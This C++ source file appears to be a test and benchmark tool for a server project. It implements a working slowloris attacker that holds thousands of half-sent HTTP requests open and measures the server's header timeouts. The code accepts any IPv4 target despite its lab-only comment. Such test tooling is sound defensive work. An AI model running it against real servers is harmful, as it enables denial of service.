// A bounded slowloris attacker for percore's benchmark and test (loopback or lab addresses only).
//
// Holds --connections connections to HOST:PORT, each sending one byte of a never-ending request
// head (a request line, then header lines forever, never the blank line) every --interval
// seconds. A connection the server closes (with or without a 408) is counted and replaced at
// once, so the attack keeps them all open. Prints "ready N" once N are connected, and on
// SIGTERM/SIGINT or after --duration one JSON line:
//   opened            connections opened in total (replacements included)
//   responses_408     answers that were a 408 (the server's header timeout)
//   other_responses   any other answer (a request that never ended should get none)
//   closed_by_server  connections the server closed (EOF or reset)
//   connect_errors    connects that failed (retried after 100 ms)
//   held_s_median/max how long the server kept a cut connection, from its first byte
//   bytes_sent, open_at_end, connections, seconds, cpu_s (the attacker's own CPU time)
// A small C++ program built with the tests, so the e2e test and scripts/bench-slowloris.sh need
// nothing beyond the build.
//
//   slowloris HOST PORT [--connections 2000] [--interval 1] [--duration 60]
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <string_view>
#include <vector>

namespace {

constexpr std::string_view kPrefix = "GET / HTTP/1.1\r\nHost: slowloris\r\n";
constexpr std::string_view kFiller = "X-Slow: y\r\n";
constexpr int64_t kNsPerSec = 1'000'000'000;

volatile sig_atomic_t g_stop = 0;

void on_signal(int) {
  g_stop = 1;
}

int64_t now_ns() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return int64_t{ts.tv_sec} * kNsPerSec + ts.tv_nsec;
}

char head_byte(uint64_t i) {
  if (i < kPrefix.size()) return kPrefix[i];
  return kFiller[(i - kPrefix.size()) % kFiller.size()];
}

enum class State { kIdle, kConnecting, kOpen, kRetry };

struct Slot {
  int fd = -1;
  uint32_t generation = 0;  // in the epoll token, so a stale event for a replaced fd is ignored
  State state = State::kIdle;
  uint64_t sent = 0;
  int64_t first_byte_ns = 0;
  int64_t next_ns = 0;  // next byte due, or the retry time
};

struct Counts {
  uint64_t opened = 0, responses_408 = 0, other_responses = 0, closed_by_server = 0,
           connect_errors = 0, bytes_sent = 0;
  std::vector<double> held_s;
};

class Attack {
 public:
  Attack(sockaddr_in target, int connections, int64_t interval_ns)
      : target_(target), slots_(static_cast<size_t>(connections)), interval_ns_(interval_ns) {
    ep_ = epoll_create1(EPOLL_CLOEXEC);
  }

  void open(size_t i, int64_t now) {
    Slot& s = slots_[i];
    ++s.generation;
    s.sent = 0;
    s.first_byte_ns = 0;
    s.fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (s.fd >= 0 &&
        (connect(s.fd, reinterpret_cast<const sockaddr*>(&target_), sizeof target_) == 0 ||
         errno == EINPROGRESS)) {
      epoll_event ev{};
      ev.events = EPOLLOUT | EPOLLIN;
      ev.data.u64 = (uint64_t{s.generation} << 32) | i;
      epoll_ctl(ep_, EPOLL_CTL_ADD, s.fd, &ev);
      s.state = State::kConnecting;
      ++counts_.opened;
      return;
    }
    if (s.fd >= 0) close(s.fd);
    s.fd = -1;
    s.state = State::kRetry;
    s.next_ns = now + kNsPerSec / 10;
    ++counts_.connect_errors;
  }

  // The server gave up on (or refused) the connection: count it and put another in its place.
  void replace(size_t i, int64_t now, bool by_server) {
    Slot& s = slots_[i];
    if (s.fd >= 0) close(s.fd);  // also leaves the epoll set
    s.fd = -1;
    if (by_server) {
      ++counts_.closed_by_server;
      if (s.first_byte_ns > 0) {
        counts_.held_s.push_back(static_cast<double>(now - s.first_byte_ns) / kNsPerSec);
      }
    }
    s.state = State::kIdle;
    if (!g_stop) open(i, now);
  }

  void send_byte(size_t i, int64_t now) {
    Slot& s = slots_[i];
    char b = head_byte(s.sent);
    ssize_t n = send(s.fd, &b, 1, MSG_NOSIGNAL);
    if (n == 1) {
      if (s.first_byte_ns == 0) s.first_byte_ns = now;
      ++s.sent;
      ++counts_.bytes_sent;
    } else if (n < 0 && errno != EAGAIN && errno != EINTR) {
      replace(i, now, true);
      return;
    }
    s.next_ns = now + interval_ns_;
  }

  void on_event(const epoll_event& ev, int64_t now) {
    size_t i = ev.data.u64 & 0xffffffffu;
    Slot& s = slots_[i];
    if (static_cast<uint32_t>(ev.data.u64 >> 32) != s.generation || s.fd < 0) return;
    if (s.state == State::kConnecting) {
      int err = 0;
      socklen_t len = sizeof err;
      getsockopt(s.fd, SOL_SOCKET, SO_ERROR, &err, &len);
      if (err != 0) {
        close(s.fd);
        s.fd = -1;
        s.state = State::kRetry;
        s.next_ns = now + kNsPerSec / 10;
        ++counts_.connect_errors;
        return;
      }
      if (!(ev.events & EPOLLOUT)) return;
      epoll_event mod{};
      mod.events = EPOLLIN;
      mod.data.u64 = ev.data.u64;
      epoll_ctl(ep_, EPOLL_CTL_MOD, s.fd, &mod);
      s.state = State::kOpen;
      send_byte(i, now);
      return;
    }
    if (!(ev.events & (EPOLLIN | EPOLLHUP | EPOLLERR))) return;
    char buf[4096];
    ssize_t n = recv(s.fd, buf, sizeof buf, 0);
    if (n < 0 && (errno == EAGAIN || errno == EINTR)) return;
    if (n > 0) {
      std::string_view answer(buf, static_cast<size_t>(n));
      bool is_408 = answer.starts_with("HTTP/1.1 408") || answer.starts_with("HTTP/1.0 408");
      ++(is_408 ? counts_.responses_408 : counts_.other_responses);
    }
    // EOF, reset, or any answer to a request that never ended: the server gave up on it.
    replace(i, now, true);
  }

  void tick(int64_t now) {
    for (size_t i = 0; i < slots_.size(); ++i) {
      Slot& s = slots_[i];
      if (s.state == State::kOpen && s.next_ns <= now) send_byte(i, now);
      if (s.state == State::kRetry && s.next_ns <= now && !g_stop) open(i, now);
    }
  }

  size_t count(State st) const {
    return static_cast<size_t>(
        std::count_if(slots_.begin(), slots_.end(), [st](const Slot& s) { return s.state == st; }));
  }

  int run(int64_t duration_ns) {
    int64_t start = now_ns();
    int64_t end = start + duration_ns;
    // Opened over about a second, as a real attacker ramps up, and not in one burst a listen
    // backlog cannot take; the server's cuts then come spread over as long.
    size_t per_step = std::max<size_t>(1, slots_.size() / 100);
    size_t next_open = 0;
    int64_t next_step = start;
    bool ready = false;
    std::vector<epoll_event> events(1024);
    while (!g_stop) {
      int64_t now = now_ns();
      if (now >= end) break;
      if (next_open < slots_.size() && now >= next_step) {
        for (size_t k = 0; k < per_step && next_open < slots_.size(); ++k) open(next_open++, now);
        next_step += kNsPerSec / 100;
      }
      int n = epoll_wait(ep_, events.data(), static_cast<int>(events.size()), 10);
      now = now_ns();
      for (int k = 0; k < n; ++k) on_event(events[static_cast<size_t>(k)], now);
      tick(now);
      if (!ready && next_open == slots_.size() && count(State::kOpen) == slots_.size()) {
        ready = true;
        std::printf("ready %zu\n", slots_.size());
        std::fflush(stdout);
      }
    }
    size_t open_at_end = count(State::kOpen);
    for (Slot& s : slots_) {
      if (s.fd >= 0) close(s.fd);
    }
    report(open_at_end, static_cast<double>(now_ns() - start) / kNsPerSec);
    return 0;
  }

 private:
  void report(size_t open_at_end, double seconds) {
    std::vector<double>& h = counts_.held_s;
    std::sort(h.begin(), h.end());
    double median = h.empty() ? 0 : h[h.size() / 2];
    double max = h.empty() ? 0 : h.back();
    rusage ru{};
    getrusage(RUSAGE_SELF, &ru);
    double cpu = static_cast<double>(ru.ru_utime.tv_sec + ru.ru_stime.tv_sec) +
                 static_cast<double>(ru.ru_utime.tv_usec + ru.ru_stime.tv_usec) / 1e6;
    std::printf(
        "{\"opened\": %llu, \"responses_408\": %llu, \"other_responses\": %llu, "
        "\"closed_by_server\": %llu, \"connect_errors\": %llu, \"bytes_sent\": %llu, "
        "\"open_at_end\": %zu, \"connections\": %zu, \"held_s_median\": %.3f, "
        "\"held_s_max\": %.3f, \"seconds\": %.3f, \"cpu_s\": %.3f}\n",
        static_cast<unsigned long long>(counts_.opened),
        static_cast<unsigned long long>(counts_.responses_408),
        static_cast<unsigned long long>(counts_.other_responses),
        static_cast<unsigned long long>(counts_.closed_by_server),
        static_cast<unsigned long long>(counts_.connect_errors),
        static_cast<unsigned long long>(counts_.bytes_sent), open_at_end, slots_.size(), median,
        max, seconds, cpu);
    std::fflush(stdout);
  }

  sockaddr_in target_;
  std::vector<Slot> slots_;
  int64_t interval_ns_;
  int ep_ = -1;
  Counts counts_;
};

int usage(const char* why) {
  std::fprintf(stderr,
               "slowloris: %s (usage: slowloris HOST PORT [--connections N] [--interval S] "
               "[--duration S])\n",
               why);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) return usage("needs HOST and PORT");
  sockaddr_in target{};
  target.sin_family = AF_INET;
  int port = std::atoi(argv[2]);
  if (inet_pton(AF_INET, argv[1], &target.sin_addr) != 1) return usage("HOST must be IPv4");
  if (port < 1 || port > 65535) return usage("bad PORT");
  target.sin_port = htons(static_cast<uint16_t>(port));
  int connections = 2000;
  double interval = 1, duration = 60;
  for (int i = 3; i + 1 < argc; i += 2) {
    std::string_view flag = argv[i];
    if (flag == "--connections") {
      connections = std::atoi(argv[i + 1]);
    } else if (flag == "--interval") {
      interval = std::atof(argv[i + 1]);
    } else if (flag == "--duration") {
      duration = std::atof(argv[i + 1]);
    } else {
      return usage("unknown flag");
    }
  }
  if (argc % 2 == 0) return usage("a flag without its value");
  if (connections < 1 || connections > 100000 || !(interval > 0) || !(duration > 0)) {
    return usage("bad --connections, --interval or --duration");
  }
  struct sigaction sa {};
  sa.sa_handler = on_signal;
  sigaction(SIGTERM, &sa, nullptr);
  sigaction(SIGINT, &sa, nullptr);
  Attack attack(target, connections, static_cast<int64_t>(interval * kNsPerSec));
  return attack.run(static_cast<int64_t>(duration * kNsPerSec));
}
